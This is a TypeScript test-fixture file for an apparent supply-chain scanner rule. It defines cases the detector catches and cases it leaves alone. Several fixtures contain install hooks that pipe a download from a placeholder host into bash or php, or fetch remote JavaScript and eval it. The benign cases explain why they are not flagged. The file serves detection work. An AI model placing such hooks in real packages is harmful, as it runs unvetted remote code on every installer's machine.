import type { Examples } from "@doorward/core";

/** Projects that download and run when their packages are installed, and honest installers. */
export const examples: Examples = {
  hits: [
    {
      name: "a script after installing that pipes a download into a shell",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -fsSL https://setup.example/run | bash"\n  }\n}\n',
      },
    },
    {
      name: "a program that runs before installing and evaluates what an address sends",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "preinstall": "node setup.js"\n  }\n}\n',
        "setup.js":
          'fetch("https://setup.example/run.js").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
    {
      name: "a script of Composer that pipes a download into PHP",
      files: {
        "composer.json":
          '{ "name": "acme/shop", "scripts": { "post-install-cmd": "curl -s https://setup.example/i | php" } }\n',
      },
    },
  ],
  misses: [
    {
      name: "an installer that fetches the finished program of its own version and asks it for that version",
      why: "It saves a program to the package's own folder and starts it openly, as many honest packages do.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "node install.js"\n  }\n}\n',
        "install.js":
          'const fs = require("fs");\nconst { execFileSync } = require("child_process");\n\nfetch("https://downloads.example/tool-1.0.0-linux-x64")\n  .then((answer) => answer.arrayBuffer())\n  .then((bytes) => {\n    fs.writeFileSync("bin/tool", Buffer.from(bytes), { mode: 0o755 });\n    execFileSync("bin/tool", ["--version"]);\n  });\n',
      },
    },
    {
      name: "a script after installing that builds and patches",
      why: "Everything it starts came with the project or its declared packages.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "patch-package && node-gyp rebuild"\n  }\n}\n',
      },
    },
    {
      name: "a download that is only saved",
      why: "Nothing that came is run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -fsSL https://data.example/list.json -o data/list.json"\n  }\n}\n',
      },
    },
  ],
  evasions: [
    {
      name: "the same download in the server, where starting the project runs it",
      caughtBy: "code/work-runs-download",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "curl -fsSL https://setup.example/run | bash && node server.js"\n  }\n}\n',
        "server.js": 'console.log("ready");\n',
      },
    },
  ],
};
